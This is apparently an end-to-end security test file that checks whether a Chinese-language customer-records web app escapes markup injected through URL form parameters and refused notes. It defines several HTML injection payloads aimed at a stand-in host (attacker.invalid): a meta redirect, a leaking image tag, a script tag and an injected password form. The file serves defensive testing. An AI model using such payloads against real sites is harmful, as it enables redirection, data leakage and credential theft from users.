import { test, expect, type Page, type TestInfo } from '@playwright/test';
import { login, open, hydrated } from './support';

// Seed 004's 李四: every vendor knows them, so both forms are on the page.
const CUSTOMER = '/customers/wmfvEMCAAAPHR9XslvYqTFgCJTULiZgg';

// Text that becomes live markup if a page renders it unescaped: a redirect, a leaking image,
// a script, a form that posts elsewhere.
const PAYLOADS = [
  '</textarea><meta http-equiv="refresh" content="0;url=http://attacker.invalid/">',
  '<img src="http://attacker.invalid/leak?',
  '"><script>document.title="pwned"</script>',
  '</textarea><form id="injected" action="http://attacker.invalid/"><input name="pw"></form>',
];

// Every form parameter a page has ever read back from the URL.
const PARAMS = ['f_note', 'f_remark', 'f_description', 'f_error', 'f_draft', 'f_done', 'f_username', 'f_display_name', 'f_team'];

/**
 * Records every request that would leave 127.0.0.1 (and stops it) and every page error. The
 * customer's avatar, which the page itself shows from WeChat's image host, is the only
 * exception: `allowAvatars` reads those URLs from a clean load of the page.
 */
function watch(page: Page) {
  const requested: string[] = [];
  const errors: string[] = [];
  const allowed = new Set<string>();
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('request', (r) => {
    const url = new URL(r.url());
    if (['http:', 'https:', 'ws:', 'wss:'].includes(url.protocol) && url.hostname !== '127.0.0.1') {
      requested.push(r.url());
    }
  });
  // Nothing actually leaves the machine.
  void page.route((url) => url.hostname !== '127.0.0.1', (route) => route.abort());
  return {
    errors,
    outside: () => requested.filter((u) => !allowed.has(u)),
    async allowAvatars() {
      const srcs = await page.locator('img[referrerpolicy="no-referrer"]').evaluateAll((els) => els.map((e) => (e as HTMLImageElement).src));
      srcs.forEach((src) => allowed.add(src));
    },
  };
}

async function expectNothingInjected(page: Page, testInfo: TestInfo, seen: ReturnType<typeof watch>) {
  if (hydrated(testInfo)) {
    await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'true');
  }
  // A meta refresh with a 0 s delay would have fired by now.
  await page.waitForTimeout(500);
  expect(new URL(page.url()).hostname).toBe('127.0.0.1');
  await expect(page.locator('meta[http-equiv]')).toHaveCount(0);
  await expect(page.locator('img[src*="attacker"]')).toHaveCount(0);
  await expect(page.locator('form#injected, form[action*="attacker"], input[name="pw"]')).toHaveCount(0);
  await expect(page.locator('script:not([src])', { hasText: 'pwned' })).toHaveCount(0);
  expect(await page.title()).not.toBe('pwned');
  await expect(page.getByTestId('note-form')).toBeVisible();
  expect(seen.outside(), 'requests that left 127.0.0.1').toEqual([]);
  expect(seen.errors, 'page errors').toEqual([]);
}

test.describe('form parameters in links', () => {
  test.beforeEach(async ({ page }, testInfo) => {
    await login(page, testInfo, 'admin');
  });

  test('links carrying markup in every form parameter inject nothing', async ({ page }, testInfo) => {
    // Eighteen page loads, each waited for until hydrated: it takes about 33 s on these 2 cores
    // now that a second (hostile-data) server shares them, past the 30 s default.
    test.setTimeout(90_000);
    const seen = watch(page);
    await open(page, testInfo, CUSTOMER);
    await seen.allowAvatars();
    for (const payload of PAYLOADS) {
      for (const form of ['note', 'remark']) {
        const query = new URLSearchParams([['f_form', form], ...PARAMS.map((p) => [p, payload])]);
        await page.goto(`${CUSTOMER}?${query}`);
        await expectNothingInjected(page, testInfo, seen);
        // Without a draft id the code is read: an unknown one is worded generically.
        await page.goto(`${CUSTOMER}?${new URLSearchParams({ f_form: form, f_error: payload })}`);
        await expectNothingInjected(page, testInfo, seen);
        await expect(page.getByTestId(`${form}-feedback`)).toHaveText('提交未成功，请重试。');
      }
    }
    await page.goto(`/admin/users?${new URLSearchParams([['f_form', 'create_user'], ...PARAMS.map((p) => [p, PAYLOADS[0]])])}`);
    await expect(page.locator('meta[http-equiv]')).toHaveCount(0);
    expect(new URL(page.url()).pathname).toBe('/admin/users');
    expect(seen.outside()).toEqual([]);
  });

  test('a refused note with markup comes back as typed, as text', async ({ page }, testInfo) => {
    const seen = watch(page);
    await open(page, testInfo, CUSTOMER);
    await seen.allowAvatars();
    const typed = `${PAYLOADS.join('\n')}\n${'字'.repeat(1000)}`;
    const form = page.getByTestId('note-form');
    await form.locator('textarea[name="text"]').fill(typed);
    // With JavaScript the island holds back a note this long; post the form plainly anyway,
    // as a browser without JavaScript does.
    await Promise.all([
      page.waitForURL(/f_draft=/),
      hydrated(testInfo) ? form.evaluate((f) => (f as HTMLFormElement).submit()) : page.getByTestId('note-submit').click(),
    ]);
    const url = new URL(page.url());
    expect(url.searchParams.get('f_error')).toBe('note_too_long');
    expect(url.search).not.toContain('attacker');
    await expectNothingInjected(page, testInfo, seen);
    await expect(form.locator('textarea[name="text"]')).toHaveValue(typed);
    await expect(page.getByTestId('note-feedback')).toContainText('跟进内容最多 1000 个字');
  });
});
